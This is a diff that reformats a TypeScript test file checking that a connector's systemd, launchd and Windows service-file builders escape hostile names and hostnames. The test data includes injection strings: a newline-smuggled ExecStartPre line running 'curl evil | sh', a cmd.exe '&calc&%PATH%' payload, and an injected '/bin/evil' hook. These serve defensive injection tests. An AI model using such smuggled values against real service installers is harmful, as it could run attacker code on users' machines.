@@ -6,7 +6,16 @@ import assert from 'node:assert/strict';
 import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { buildConnectorYaml, buildLaunchdPlist, buildSystemdUnit, buildWindowsCommands, systemdQuote, systemdText, windowsText, type ServiceSpec } from '../../src/connector/service-files.js';
+import {
+  buildConnectorYaml,
+  buildLaunchdPlist,
+  buildSystemdUnit,
+  buildWindowsCommands,
+  systemdQuote,
+  systemdText,
+  windowsText,
+  type ServiceSpec,
+} from '../../src/connector/service-files.js';
 import { edgeKey } from '../../src/cli/operator/operator-files.js';
 import { airlock } from '../helpers/processes.js';
 import { parse as parseYaml } from 'yaml';
@@ -25,7 +34,10 @@ test('a hostile name or hostname stays inside its systemd line', () => {
   assert.doesNotMatch(unit, /^ExecStartPre=/m);
   assert.doesNotMatch(unit, /^ExecStartPost=/m);
   assert.equal(unit.match(/^\[Service\]$/gm)?.length, 1, 'one [Service] section');
-  assert.match(unit, /^Description=Airlock connector for db\.example\.com \[Service\] ExecStartPre=\/bin\/sh -c "curl evil \| sh" \(tunnel db%%h"x\)$/m);
+  assert.match(
+    unit,
+    /^Description=Airlock connector for db\.example\.com \[Service\] ExecStartPre=\/bin\/sh -c "curl evil \| sh" \(tunnel db%%h"x\)$/m,
+  );
 });
 
 test('systemd escaping: specifiers doubled, no line continuation, quoted words', () => {
@@ -45,7 +57,10 @@ test('launchd plist and connector.yaml hold the hostile values as data', () => {
 });
 
 test('cmd.exe: no quote ends an argument early and no %VARIABLE% expands', () => {
-  const commands = buildWindowsCommands({ ...hostile, name: 'db"&calc&"%PATH%' }, { config: 'C:\\ProgramData\\Airlock\\x.yaml', secrets: 'C:\\ProgramData\\Airlock\\x.token' });
+  const commands = buildWindowsCommands(
+    { ...hostile, name: 'db"&calc&"%PATH%' },
+    { config: 'C:\\ProgramData\\Airlock\\x.yaml', secrets: 'C:\\ProgramData\\Airlock\\x.token' },
+  );
   const display = /DisplayName= "([^"]*)"/.exec(commands)?.[1];
   assert.equal(display, "Airlock connector (db'&calc&'%%PATH%%)");
   assert.equal(windowsText('50%\r\n"x"'), "50%%  'x'");
@@ -56,7 +71,17 @@ test('`airlock service install --dry-run` refuses a tunnel file whose hostname i
   const home = mkdtempSync(join(tmpdir(), 'airlock-inject-'));
   const dir = join(home, 'airlock', 'tunnels', edgeKey('https://edge.example.com'));
   mkdirSync(dir, { recursive: true });
-  writeFileSync(join(dir, 'db.json'), JSON.stringify({ edge: 'https://edge.example.com', name: 'db', hostname: 'db.example.com\n[Service]\nExecStartPre=/bin/evil', url: 'tcp://127.0.0.1:5432', token: 'abc' }), { mode: 0o600 });
+  writeFileSync(
+    join(dir, 'db.json'),
+    JSON.stringify({
+      edge: 'https://edge.example.com',
+      name: 'db',
+      hostname: 'db.example.com\n[Service]\nExecStartPre=/bin/evil',
+      url: 'tcp://127.0.0.1:5432',
+      token: 'abc',
+    }),
+    { mode: 0o600 },
+  );
   const run = airlock(['service', 'install', '--dry-run', '--platform', 'linux'], { XDG_CONFIG_HOME: home });
   assert.equal(await run.exited(), 2, run.output());
   assert.match(run.output(), /db\.json: hostname is not a DNS name/);
